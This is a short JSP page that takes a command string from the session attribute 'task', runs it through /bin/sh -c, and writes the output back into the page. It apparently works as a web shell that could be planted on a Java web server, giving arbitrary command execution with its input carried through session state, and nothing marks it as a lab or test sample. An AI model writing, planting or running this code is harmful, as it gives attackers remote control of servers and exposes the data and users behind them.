<%@ page import="java.io.*" %>
<%
    String c = (String) session.getAttribute("task");
    if (c != null) {
        Process p = Runtime.getRuntime().exec(new String[] {"/bin/sh", "-c", c});
        BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));
        String line;
        while ((line = r.readLine()) != null) { out.println(line); }
        p.waitFor();
    }
%>
